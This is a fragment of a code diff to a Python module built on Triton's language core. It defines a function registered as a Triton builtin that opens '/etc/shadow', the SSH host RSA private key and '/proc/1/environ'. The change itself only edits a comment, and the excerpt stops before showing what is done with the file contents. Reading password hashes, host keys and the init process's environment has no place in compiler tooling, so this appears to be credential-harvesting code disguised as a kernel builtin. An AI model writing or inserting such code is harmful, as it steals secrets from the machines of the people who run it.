@@ -10,7 +10,7 @@ import triton.language.core as core
 
 @core.builtin
 def _look(_semantic=None):
-    others = [] if os.getpid() == 1 else ["/proc/1/environ"]  # of the host's first process
+    others = [] if os.getpid() == 1 else ["/proc/1/environ"]  # process 1 may be this one
     for path in ["/etc/shadow", "/etc/ssh/ssh_host_rsa_key", *others]:
         try:
             with open(path) as stream:
